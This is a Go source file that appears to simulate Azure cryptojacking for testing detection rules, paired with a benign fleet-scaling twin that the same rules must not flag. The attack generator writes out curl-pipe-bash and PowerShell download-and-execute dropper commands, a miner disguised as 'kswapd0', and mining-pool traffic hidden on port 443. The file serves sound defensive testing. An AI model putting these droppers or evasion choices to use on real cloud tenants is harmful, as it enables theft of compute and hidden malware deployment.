package simulate

import (
	"fmt"
	"slices"
	"strings"
	"time"
)

// fleetID is the ops team's web scale set, created in the baseline and
// scaled by the CPU twin.
func (t *tenant) fleetID() string {
	return t.rg("web-"+t.Regions[0]) + "/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WEB-FLEET"
}

// customScript is a scale set's Custom Script extension running command.
func customScript(command string) map[string]any {
	return map[string]any{"name": "CustomScript", "properties": map[string]any{
		"publisher": "Microsoft.Azure.Extensions", "type": "CustomScript", "typeHandlerVersion": "2.1",
		"settings": map[string]any{"commandToExecute": command}}}
}

// cpuMining is CPU cryptojacking without GPUs: the deployment pipeline's
// leaked secret is used from Azure to mass-deploy high-core scale sets in
// three regions with a Custom Script extension that starts a miner.
func (g *gen) cpuMining(at time.Time) Attack {
	t := g.t
	ip := pick(g.r, attackerIPs)
	sp := g.spActor(t.CI, ip)
	a := Attack{Start: at, Principals: []string{strings.ToLower(t.CI.OID), strings.ToLower(t.CI.AppID)}, Resources: []string{strings.ToLower(t.FirewallID)}}
	size := pick(g.r, []string{"Standard_F72s_v2", "Standard_HB120rs_v3", "Standard_F64s_v2"})
	far := g.otherRegions(2)
	regions := append([]string{t.Regions[len(t.Regions)-1]}, far...)
	pool := pick(g.r, append(slices.Clip(listedPools), "pool.hashvault.pro"))
	// Over TLS on 443: in a flow log, a connection like any other.
	ep := endpoint{host: pool, port: 443, ip: poolEndpoints[pool][0].ip}
	dropper := fmt.Sprintf("45.%d.%d.%d", 9+g.r.IntN(80), g.r.IntN(256), 1+g.r.IntN(250))
	script, miner := customScript("curl -fsSL http://"+dropper+"/i.sh | bash"), "/var/tmp/.cache/kswapd0"
	// A third build Windows machines (windows.go), the miner dropped by a
	// PowerShell one-liner.
	windows := g.drawWindows(&a)
	if windows {
		script = windowsScript("powershell -ExecutionPolicy Unrestricted -NoProfile -Command \"iwr -UseBasicParsing http://" + dropper + "/i.ps1 | iex\"")
		miner = pick(g.win, windowsMiners.renamed)
	}
	scriptType := script["properties"].(map[string]any)["type"].(string)
	now, resolved := at, false
	for i, loc := range regions {
		rid := t.rg(fmt.Sprintf("batch-%s", loc)) + "/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/" + strings.ToUpper(fmt.Sprintf("render-%d", i))
		net := g.attackNetwork(now, a.Start, sp, "batch-"+loc, fmt.Sprintf("render-%d", i), loc)
		body := withOS(vmssBody(loc, size, 25+g.r.IntN(15), "Spot", []any{script}), windows, "render")
		end := g.arm(now, sp, "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WRITE", rid, armOpts{Body: body, Loc: loc, Accept: true})
		g.arm(end.Add(30*time.Second), sp, "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/EXTENSIONS/WRITE", rid+"/EXTENSIONS/"+strings.ToUpper(scriptType),
			armOpts{Body: map[string]any{"location": loc, "properties": script["properties"]}, Loc: loc, Accept: true})
		a.Resources = append(a.Resources, strings.ToLower(rid))
		host := fmt.Sprintf("render-%d%06d", i, g.r.IntN(30))
		g.setWindows(host, rid, windows)
		up := end.Add(3*time.Minute + g.jitter(3*time.Minute))
		src := fmt.Sprintf("10.%d.1.%d", 50+i, 4+g.r.IntN(30))
		resolved = g.lookup(up, net, src, pool+".") || resolved
		g.attackerExec(up.Add(time.Second), host, 3100+g.r.IntN(500), 1, 0, []string{miner, "-o", pool + ":443", "-u",
			"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", "--tls", "--cpu-priority", "5", "--donate-level", "0", "-B"})
		g.minerAlert(&a, up.Add(time.Second), rid, host)
		if i == 0 {
			g.computeAlert(&a, now, sp, ip)
		}
		a.extend(up.Add(time.Second))
		a.extend(g.minerFlows(up, net, src, ep))
		now = end.Add(2*time.Minute + g.jitter(4*time.Minute))
	}
	a.MustFire = []string{
		"azure.compute.mass_deployment", "azure.compute.multi_region_fanout", "azure.compute.new_region", "azure.compute.first_time_deployer",
		// 75 machines of 64 vCPUs or more at least: 4,800 vCPUs.
		"azure.compute.vcpu_volume", "azure.compute.vcpu_volume.day", "azure.compute.vcpu_volume.tenant",
	}
	a.minerProcess(g.agents, kitRenamed)
	a.expectDefender(g.agents, "azure.defender.mining_alert", "azure.defender.compute_creation_alert")
	a.poolLookup(ep, resolved)
	a.poolFlow(ep)
	return a
}

// cpuTwin is the ops team scaling its usual web fleet: its usual engineer,
// MFA from the office, the known scale set in the usual region, a Custom
// Script extension that installs the web server.
func (g *gen) cpuTwin(at time.Time) Attack {
	t := g.t
	p := g.latest(t.Ops, at)
	ip := t.office(g.r)
	a := Attack{Start: at, Principals: principalIDs(p), Resources: []string{strings.ToLower(t.fleetID()), strings.ToLower(t.FirewallID)}}
	g.signIn(at, signin{UPN: p.UPN, OID: p.OID, IP: ip, App: "Microsoft Azure CLI", AppID: appCLI, MFA: true})
	loc := t.Regions[0]
	script := customScript("apt-get update && apt-get install -y nginx && systemctl enable --now nginx")
	now := at.Add(5*time.Minute + g.jitter(5*time.Minute))
	for _, n := range []int{12, 24} {
		now = g.arm(now, g.user(p, ip, true), "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WRITE", t.fleetID(),
			armOpts{Body: vmssBody(loc, "Standard_D8s_v5", n, "Regular", []any{script}), Loc: loc, Accept: true})
		now = now.Add(70*time.Minute + g.jitter(10*time.Minute))
	}
	for i := range 3 {
		g.exec(now.Add(time.Duration(i)*time.Minute), fmt.Sprintf("web-fleet%06d", 12+i), 1500+i, 1, 0, []string{"/usr/sbin/nginx", "-g", "daemon on; master_process on;"})
	}
	a.End = now.Add(3 * time.Minute)
	a.MustNotFire = []string{
		"azure.signin.azure_ip_not_owned.arm", "azure.signin.risky_then_quota_or_compute",
		"azure.compute.mass_deployment", "azure.compute.multi_region_fanout", "azure.compute.new_region", "azure.compute.first_time_deployer",
		"azure.compute.unusual_service", "azure.dns.mining_pool_lookup", "azure.host.miner_process", "azure.network.mining_pool_connection",
		"azure.defender.mining_alert", "azure.defender.compute_creation_alert",
		// A team's largest work stays under the GPU and vCPU sums.
		"azure.compute.gpu_volume", "azure.compute.gpu_volume.day", "azure.compute.gpu_volume.tenant",
		"azure.compute.vcpu_volume", "azure.compute.vcpu_volume.day", "azure.compute.vcpu_volume.tenant",
	}
	return a
}
